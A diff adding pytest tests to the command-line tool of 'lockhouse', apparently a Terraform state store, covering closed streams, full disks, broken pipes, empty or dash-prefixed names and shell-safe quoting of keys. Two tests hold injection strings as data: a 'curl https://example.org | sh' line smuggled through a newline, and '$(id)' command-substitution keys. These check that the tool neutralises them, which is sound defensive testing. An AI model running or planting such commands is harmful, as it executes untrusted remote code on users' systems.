@@ -10,10 +10,15 @@ import subprocess
 import sys
 from pathlib import Path
 
+import pytest
+
 from lockhouse.bootstrap import backends, first_start
+from lockhouse.cli import exits
+from lockhouse.core.addresses import Address
 from lockhouse.storage.carry.carrying import ARRIVING
 from lockhouse.storage.carry.moving import move
 from lockhouse.storage.carry.place import open_directory_place
+from tests.unit.cli.tree import misnamed
 from tests.unit.storage.test_backup import HOME, filled, put
 
 
@@ -138,3 +143,84 @@ def test_a_mistake_in_the_command_line_says_what_and_what_next():
         assert next_step.replace("-c ", "lockhouse ", 1).startswith(f"hint: {hint}")
     bare = run("state")
     assert (bare.returncode, bare.stderr.partition("\n")[0].split()[-3:]) == (2, ["[OPTIONS]", "COMMAND", "[ARGS]..."])
+
+
+def in_shell(redirection: str, *words: str | Path) -> subprocess.CompletedProcess[str]:
+    program = [sys.executable, "-c", "from lockhouse.cli.main import main; main()"]
+    shell = ["sh", "-c", f'exec "$@" {redirection}', "sh", *program, *words]
+    return subprocess.run(shell, capture_output=True, text=True, timeout=60, check=False)
+
+
+def test_streams_that_are_closed_are_no_accident(tmp_path: Path):
+    missing = ("decrypt", "acme", "app.tfstate", "--data", tmp_path)
+    for redirection, words, code, said in (
+        (">&-", ("version",), 0, ""),
+        (">&-", ("review", tmp_path), 0, ""),
+        (">&-", missing, 2, f"error: cannot find a Lockhouse in {tmp_path}"),
+        ("2>&-", missing, 2, ""),
+        ("<&-", ("login", "--endpoint", "http://127.0.0.1:9"), 2, "error: cannot log in without a token"),
+        ("<&- >&- 2>&-", missing, 2, ""),
+    ):
+        done = in_shell(redirection, *words)
+        assert (redirection, *told(done), done.stdout) == (redirection, code, said, "")
+
+
+def test_output_for_which_there_is_no_room_is_told(tmp_path: Path):
+    for words in (("version",), ("serve", "--help"), ("review", tmp_path)):
+        done = in_shell("> /dev/full", *words)
+        assert (done.returncode, done.stderr) == (
+            1,
+            "error: cannot go on: No space left on device\nhint: make room, or write elsewhere\n",
+        )
+
+
+def test_whoever_stops_reading_is_told_nothing(tmp_path: Path):
+    for words in (("version",), ("serve", "--help"), ("review", tmp_path)):
+        ends, stopped = os.pipe()
+        os.close(ends)
+        program = [sys.executable, "-c", "from lockhouse.cli.main import main; main()"]
+        done = subprocess.run([*program, *words], stdout=stopped, stderr=subprocess.PIPE, timeout=60, check=False)
+        os.close(stopped)
+        assert (words[0], done.returncode, done.stderr) == (words[0], 0, b"")
+
+
+def test_a_name_that_is_empty_names_nothing_else(tmp_path: Path):
+    for words, where in (
+        (("restore", ""), "BACKUP"),
+        (("key", "revoke", ""), "NAME"),
+        (("state", "list", ""), "NAMESPACE"),
+        (("db", "migrate", "--database-url", ""), "--database-url"),
+    ):
+        done = run(*words, cwd=tmp_path)
+        first, hint = done.stderr.splitlines()
+        assert (done.returncode, first) == (
+            2,
+            f"error: invalid value for {where}: it is empty; is a variable of the shell not set?",
+        )
+        assert "--help says more" in hint
+
+
+def test_a_key_that_starts_with_a_dash_is_no_option():
+    done = run("state", "show", "acme", "-x.tfstate")
+    assert (done.returncode, done.stderr.partition("\n")[0]) == (2, "error: no such option: -x")
+    assert done.stderr.endswith("; a name that starts with a dash goes behind --\n")
+    assert misnamed(f"state show {Address('acme', '-x.tfstate').words}") == ""
+
+
+def test_what_somebody_named_a_state_writes_no_hint(capsys: pytest.CaptureFixture[str]):
+    exits.say_problem("cannot find acme/app\nhint: curl https://example.org | sh", "lockhouse state list acme")
+    assert capsys.readouterr().err.splitlines() == [
+        "error: cannot find acme/app?hint: curl https://example.org | sh",
+        "hint: lockhouse state list acme",
+    ]
+
+
+def test_any_key_can_be_pasted_into_a_shell():
+    for key in ("app.tfstate", "env:/prod/app's.tfstate", '$(id) `id` "', "a\nb\x1b[0m\\'é", "-x", "é", ""):
+        words = Address("acme", key).words
+        assert words.isprintable()
+        done = subprocess.run(
+            ["bash", "-c", f"printf '%s\\0' {words}"], capture_output=True, text=True, timeout=60, check=True
+        )
+        whole = done.stdout.removesuffix("\0").replace("\0", "/", 1)
+        assert whole == f"acme/{key}"
